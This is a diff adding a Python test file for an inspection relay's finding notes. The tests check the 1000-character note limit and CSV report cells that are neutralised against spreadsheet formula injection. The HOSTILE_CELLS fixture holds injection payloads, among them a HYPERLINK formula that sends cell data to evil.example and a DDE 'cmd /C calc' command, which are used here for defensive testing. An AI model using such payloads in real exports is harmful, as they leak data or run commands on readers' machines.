@@ -1,0 +1,113 @@
+"""Findings as people write and read them (issue 28, finding 7): notes up to 1000 characters that can be cleared, and
+report cells a spreadsheet shows as typed instead of running them."""
+
+from __future__ import annotations
+
+import asyncio
+import csv
+import io
+from collections.abc import Callable
+from pathlib import Path
+from typing import Any
+
+import aiohttp
+
+from relay.config import FleetConfig
+from relay.inspection.records import CaptureRecord, FindingRecord, MissionRecord, Step
+from relay.inspection.store import Store
+from tests.test_inspection import TOKEN, operator, relay_with_database
+
+HOSTILE_CELLS = {
+    '=HYPERLINK("http://evil.example/?"&A1,"open")': '\'=HYPERLINK("http://evil.example/?"&A1,"open")',
+    "+1+cmd|' /C calc'!A0": "'+1+cmd|' /C calc'!A0",
+    "-2+3": "'-2+3",
+    "@SUM(A1:A9)": "'@SUM(A1:A9)",
+    "\t=1+1": "'\t=1+1",
+    "\r=1+1": "'\r=1+1",
+    "leak under the valve, 3 cm": "leak under the valve, 3 cm",  # an ordinary note is left as it is
+}
+
+
+async def test_a_note_holds_1000_characters_and_can_be_cleared(fleet_config: FleetConfig, tmp_path: Path) -> None:
+    """Measured before: a note over 64 characters was refused (the generic string field's limit, where
+    docs/protocol.md says 1000), and so was "", so a note could not be cleared."""
+    running = await relay_with_database(fleet_config, tmp_path)
+    try:
+        client = await operator(running)
+        await asyncio.sleep(0.5)  # the sim's first rendered frame
+        added = await client.request(
+            {"identifier": "target/add", "target": "spot-1", "robot": "robot1", "u": 240, "v": 360}, timeout=30
+        )
+        assert added["identifier"] == "ack", added
+        finding = next(m for _, m in client.messages if m["identifier"] == "finding")
+        store = running.relay.inspection.store
+        assert store is not None
+        long_note = ("gas at the drum's foot, " * 50)[:1000]
+        for note in (long_note, ""):
+            reply = await client.request({"identifier": "finding/update", "finding": finding["id"], "note": note})
+            assert reply["identifier"] == "ack", reply
+            sent = await client.wait_for(_finding_with(note))
+            assert sent["id"] == finding["id"] and sent["status"] == finding["status"]
+            assert [f.note for f in store.findings() if f.id == finding["id"]] == [note]
+        marked = await client.request(
+            {"identifier": "finding/mark", "capture": finding["capture"], "status": "ok", "note": long_note}
+        )
+        assert marked["identifier"] == "ack", marked
+        assert sorted(len(f.note) for f in store.findings()) == [0, 1000]
+        # One character more is refused, naming the field and the limit; nothing changes.
+        refused = await client.request(
+            {"identifier": "finding/update", "finding": finding["id"], "note": long_note + "!"}
+        )
+        assert refused.get("code") == "bad_request" and "'note'" in refused["message"], refused
+        assert "at most 1000 characters" in refused["message"] and len(refused["message"]) < 400
+        assert sorted(len(f.note) for f in store.findings()) == [0, 1000]
+        await client.close()
+    finally:
+        await running.runner.cleanup()
+
+
+def _finding_with(note: str) -> Callable[[dict[str, Any]], bool]:
+    return lambda message: message["identifier"] == "finding" and message["note"] == note
+
+
+def _records(tmp_path: Path) -> None:
+    """A database holding one mission whose findings carry hostile notes and an ordinary one."""
+    database = tmp_path / "inspection.sqlite"
+    with Store.open(str(database), tmp_path / "inspection-images") as store:
+        mission = "m-20261122-230112-ab12cd.robot1"
+        store.save_mission(
+            MissionRecord(mission, "Night round", "robot1", (Step("capture", "spill"),), "done", 1, "", 1.0, 2.0)
+        )
+        capture = store.add_capture(
+            CaptureRecord("c-1", "robot1", 1.5, -1.5, 2.25, 0.0, {"gas": 698.2}, mission, "spill"), None
+        )
+        for i, note in enumerate(HOSTILE_CELLS):
+            store.add_finding(
+                FindingRecord(
+                    f"f-{i}", capture.id, "robot1", -1.5, 2.25, "anomaly", note, "operator", 2.0 + i, 2.0 + i, mission
+                )
+            )
+
+
+def _notes(text: str) -> dict[str, dict[str, str]]:
+    rows = list(csv.DictReader(io.StringIO(text, newline="")))
+    return {row["finding"]: row for row in rows}
+
+
+async def test_report_cells_a_spreadsheet_would_run_are_neutralised(fleet_config: FleetConfig, tmp_path: Path) -> None:
+    """Measured before: a note "=HYPERLINK(...)" went into the CSV report as it was, and a spreadsheet opening the
+    report ran it as a formula. Now a cell starting with =, +, -, @, a tab or a carriage return gets a leading
+    single quote (OWASP's advice); the coordinates the report formats itself stay numbers."""
+    await asyncio.to_thread(_records, tmp_path)  # where relay_with_database keeps its database
+    running = await relay_with_database(fleet_config, tmp_path)
+    try:
+        url = f"{running.url}/report/m-20261122-230112-ab12cd.csv?token={TOKEN}"
+        async with aiohttp.ClientSession() as http, http.get(url) as response:
+            assert response.status == 200
+            text = await response.text()
+    finally:
+        await running.runner.cleanup()
+    rows = _notes(text)
+    assert [rows[f"f-{i}"]["note"] for i in range(len(HOSTILE_CELLS))] == list(HOSTILE_CELLS.values())
+    assert {(row["x"], row["y"]) for row in rows.values()} == {("-1.500", "2.250")}
+    assert {row["readings"] for row in rows.values()} == {"gas=698.2"}
